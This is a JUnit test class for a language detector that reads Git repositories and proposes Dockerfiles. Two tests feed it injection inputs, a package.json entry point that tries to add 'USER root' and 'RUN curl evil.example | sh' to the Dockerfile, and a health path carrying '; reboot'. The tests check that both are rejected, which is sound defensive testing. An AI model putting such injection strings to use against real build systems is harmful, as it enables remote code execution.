package io.slipway.onboarding.detection;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

import io.slipway.onboarding.detection.DetectionFailedException.Reason;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.util.unit.DataSize;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Detection over {@code file://} against real bare repositories: which marker decides, what is
 * read from package.json and go.mod, what happens without markers or commits, and that every
 * detection leaves its temporary repository behind it deleted.
 */
class LanguageDetectorTests {

	private static final Duration WAIT = Duration.ofSeconds(30);

	@TempDir
	Path temp;

	private Path tempRoot;

	private LanguageDetector detector;

	@BeforeEach
	void setUp() {
		this.tempRoot = this.temp.resolve("detections");
		this.detector = new LanguageDetector(
				DetectionProperties.of(Duration.ofSeconds(15), DataSize.ofMegabytes(50), this.tempRoot));
	}

	@AfterEach
	void temporaryRepositoriesAreDeleted() throws Exception {
		if (Files.exists(this.tempRoot)) {
			try (Stream<Path> left = Files.list(this.tempRoot)) {
				assertThat(left).as("temporary repositories left behind").isEmpty();
			}
		}
	}

	static Stream<Arguments> markers() {
		return Stream.of(Arguments.of("package.json", "{\"name\": \"api\"}", Language.NODE_JS, 3000),
				Arguments.of("go.mod", "module example.com/api\n\ngo 1.22\n", Language.GO, 8080),
				Arguments.of("requirements.txt", "flask==3.0.0\n", Language.PYTHON, 8000),
				Arguments.of("pyproject.toml", "[project]\nname = \"api\"\n", Language.PYTHON, 8000),
				Arguments.of("composer.json", "{\"name\": \"acme/api\"}", Language.PHP, 8080),
				Arguments.of("pom.xml", "<project/>", Language.JAVA, 8080),
				Arguments.of("build.gradle", "plugins { id 'java' }", Language.JAVA, 8080),
				Arguments.of("build.gradle.kts", "plugins { java }", Language.JAVA, 8080));
	}

	@ParameterizedTest(name = "{0} means {2}")
	@MethodSource("markers")
	void detectsTheLanguageOfEachMarker(String marker, String content, Language language, int port) {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of(marker, content, "README.md", "# api\n"));
		String head = repository.commit("main", Map.of(marker, content, "README.md", "# api, second commit\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(language);
		assertThat(detection.markers()).containsExactly(marker);
		assertThat(detection.proposedPort()).isEqualTo(port);
		assertThat(detection.healthPath()).isEqualTo("/health");
		assertThat(detection.readyPath()).isEqualTo("/ready");
		assertThat(detection.commit()).isEqualTo(head);
		assertThat(detection.message()).contains("Detected " + language.displayName() + " from " + marker);
		assertThat(detection.dockerfile()).contains(" AS build")
			.contains("HEALTHCHECK")
			.contains("127.0.0.1:" + port + "/health")
			.contains("EXPOSE " + port);
	}

	@Test
	void severalMarkersFollowThePrecedenceAndAreAllListed() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{}", "requirements.txt", "mkdocs\n", "go.mod", "module x\n\ngo 1.23\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.GO);
		assertThat(detection.markers()).containsExactly("go.mod", "requirements.txt", "package.json");
		assertThat(detection.message()).contains("Also found requirements.txt, package.json")
			.contains("Go, Java, PHP, Python, Node.js");
		assertThat(detection.dockerfile()).contains("FROM golang:1.23-alpine AS build");
	}

	@Test
	void javaWithBothBuildFilesIsBuiltWithMaven() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("pom.xml", "<project/>", "build.gradle", "", "package.json", "{}"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.JAVA);
		assertThat(detection.markers()).containsExactly("pom.xml", "build.gradle", "package.json");
		assertThat(detection.message()).contains("Also found package.json").doesNotContain("Also found build.gradle");
		assertThat(detection.dockerfile()).contains("FROM maven:").contains("mvn -B -q package");
	}

	@Test
	void withoutMarkersTheLanguageIsUnknown() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("README.md", "# docs\n", "Makefile", "all:\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.UNKNOWN);
		assertThat(detection.markers()).isEmpty();
		assertThat(detection.dockerfile()).isNull();
		assertThat(detection.message()).contains("No marker file at the root of " + repository.fileUrl())
			.contains("pyproject.toml, requirements.txt, package.json");
	}

	@Test
	void onlyTheRootCounts() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("services/api/go.mod", "module x\n", "web/package.json", "{}", "README.md", "monorepo\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.UNKNOWN);
	}

	@Test
	void aRepositoryWithoutCommitsHasNothingToDetect() {
		SourceRepository repository = SourceRepository.create(this.temp.resolve("empty.git"), "main");

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.UNKNOWN);
		assertThat(detection.commit()).isNull();
		assertThat(detection.message()).contains("has no commits");
	}

	@Test
	void readsTheTipOfTheDefaultBranchWhateverItsName() {
		SourceRepository repository = SourceRepository.create(this.temp.resolve("service.git"), "trunk");
		repository.commit("trunk", Map.of("package.json", "{}"));
		String tip = repository.commit("trunk", Map.of("go.mod", "module x\n\ngo 1.21\n"));
		repository.commit("feature", Map.of("pom.xml", "<project/>"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.GO);
		assertThat(detection.markers()).as("package.json was removed at the tip").containsExactly("go.mod");
		assertThat(detection.commit()).isEqualTo(tip);
	}

	@Test
	void nodeStartsWithTheScriptItsStartCommandNames() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{\"main\": \"lib/index.js\", \"scripts\": {\"start\": \"node ./src/server.js\"}}",
						"package-lock.json", "{}"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.facts().nodeCommand()).containsExactly("node", "src/server.js");
		assertThat(detection.facts().nodeLockfile()).isTrue();
		assertThat(detection.dockerfile()).contains("CMD [\"node\", \"src/server.js\"]").contains("RUN npm ci");
	}

	@Test
	void nodeWithAnotherStartCommandStartsWithNpm() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{\"main\": \"dist/main.js\", \"scripts\": {\"start\": \"nest start\"}}"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.dockerfile()).contains("CMD [\"npm\", \"start\"]").contains("RUN npm install");
	}

	@Test
	void nodeWithoutStartScriptRunsItsMain() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{\"main\": \"dist/main.js\"}"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.dockerfile()).contains("CMD [\"node\", \"dist/main.js\"]");
	}

	@Test
	void nodeEntryPointsThatAreNotPlainPathsAreNotCopied() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{\"main\": \"x\\\"]\\nUSER root\\nRUN curl evil.example | sh #\"}",
						"server.js", "require('http')"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.facts().nodeCommand()).containsExactly("node", "server.js");
		assertThat(detection.dockerfile()).doesNotContain("evil").doesNotContain("USER root");
	}

	@Test
	void nodeWithABrokenPackageJsonIsStillNode() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("package.json", "{ this is not json"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.language()).isEqualTo(Language.NODE_JS);
		assertThat(detection.message()).contains("package.json is not valid JSON");
		assertThat(detection.dockerfile()).contains("CMD [\"npm\", \"start\"]");
	}

	@Test
	void goBuildsWithTheGoReleaseOfGoMod() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("go.mod", "module example.com/api\n\ngo 1.22.5\n\ntoolchain go1.23.1\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.facts().goVersion()).isEqualTo("1.22");
		assertThat(detection.dockerfile()).contains("FROM golang:1.22-alpine AS build");
	}

	@Test
	void goWithoutVersionBuildsWithTheDefaultRelease() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("go.mod", "module example.com/api\n"));

		Detection detection = detect(repository.fileUrl());

		assertThat(detection.facts().goVersion()).isNull();
		assertThat(detection.message()).contains("go.mod names no Go version");
		assertThat(detection.dockerfile())
			.contains("FROM golang:" + DockerfileProposals.DEFAULT_GO_VERSION + "-alpine AS build");
	}

	@Test
	void pythonRunsTheScriptAtTheRootAndPhpServesPublic() {
		SourceRepository python = SourceRepository.withFiles(this.temp.resolve("python.git"),
				Map.of("pyproject.toml", "[project]\n", "app.py", "import flask\n"));
		SourceRepository php = SourceRepository.withFiles(this.temp.resolve("php.git"),
				Map.of("composer.json", "{}", "public/index.php", "<?php echo 'ok';"));

		Detection pythonDetection = detect(python.fileUrl());
		Detection phpDetection = detect(php.fileUrl());

		assertThat(pythonDetection.dockerfile()).contains("CMD [\"python\", \"app.py\"]").contains("pip install .");
		assertThat(phpDetection.dockerfile()).contains("APACHE_DOCUMENT_ROOT=/var/www/html/public");
	}

	@Test
	void aRepositoryLargerThanTheLimitIsRefused() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("large.git"),
				Map.of("go.mod", "module x\n"));
		Map<String, byte[]> files = new LinkedHashMap<>();
		files.put("go.mod", "module x\n".getBytes());
		// random bytes do not compress, so the pack is as large as the blob
		byte[] blob = new byte[3 * 1024 * 1024];
		new Random(42).nextBytes(blob);
		files.put("assets/video.bin", blob);
		repository.commitBytes("main", files);
		LanguageDetector limited = new LanguageDetector(
				DetectionProperties.of(Duration.ofSeconds(15), DataSize.ofMegabytes(1), this.tempRoot));

		assertThatThrownBy(() -> limited.detect(repository.fileUrl()).block(WAIT))
			.isInstanceOfSatisfying(DetectionFailedException.class,
					(ex) -> assertThat(ex.reason()).isEqualTo(Reason.TOO_LARGE))
			.hasMessage("the tip of the default branch of " + repository.fileUrl()
					+ " is larger than 1 MiB (slipway.onboarding.detection.max-fetch-size); the transfer was stopped");
	}

	@Test
	void onlyTheTipIsFetchedSoALargeHistoryDoesNotCount() {
		Map<String, byte[]> files = new LinkedHashMap<>();
		byte[] blob = new byte[3 * 1024 * 1024];
		new Random(7).nextBytes(blob);
		files.put("assets/video.bin", blob);
		SourceRepository repository = SourceRepository.create(this.temp.resolve("history.git"), "main");
		repository.commitBytes("main", files);
		repository.commit("main", Map.of("go.mod", "module x\n"));
		LanguageDetector limited = new LanguageDetector(
				DetectionProperties.of(Duration.ofSeconds(15), DataSize.ofMegabytes(1), this.tempRoot));

		Detection detection = limited.detect(repository.fileUrl()).block(WAIT);

		assertThat(detection.language()).isEqualTo(Language.GO);
	}

	@Test
	void aPathWithoutRepositoryIsNotFound() {
		String url = this.temp.resolve("nothing-here.git").toUri().toString();

		assertThatThrownBy(() -> this.detector.detect(url).block(WAIT))
			.isInstanceOfSatisfying(DetectionFailedException.class,
					(ex) -> assertThat(ex.reason()).isEqualTo(Reason.NOT_FOUND))
			.hasMessage("there is no Git repository at " + url);
	}

	@Test
	void refusedUrlsFailTheMonoWithoutCreatingAnything() {
		assertThatThrownBy(() -> this.detector.detect("ssh://git@example.com/org/api.git").block(WAIT))
			.isInstanceOfSatisfying(DetectionFailedException.class,
					(ex) -> assertThat(ex.reason()).isEqualTo(Reason.REFUSED))
			.hasMessageContaining("ssh://");
		assertThat(this.tempRoot).doesNotExist();
	}

	@Test
	void proposesTheDockerfileAgainForThePortAndPathTheUserChose() {
		SourceRepository repository = SourceRepository.withFiles(this.temp.resolve("service.git"),
				Map.of("requirements.txt", "fastapi\n"));
		Detection detection = detect(repository.fileUrl());

		String dockerfile = this.detector.proposeDockerfile(detection, 9000, "/healthz").orElseThrow();

		assertThat(dockerfile).contains("EXPOSE 9000")
			.contains("127.0.0.1:9000/healthz")
			.contains("COPY requirements.txt ./")
			.doesNotContain("8000");
		assertThatThrownBy(() -> this.detector.proposeDockerfile(detection, 9000, "/health; reboot"))
			.isInstanceOf(IllegalArgumentException.class)
			.hasMessageContaining("/health; reboot");
	}

	private Detection detect(String url) {
		Detection detection = this.detector.detect(url).block(WAIT);
		assertThat(detection).isNotNull();
		return detection;
	}

}
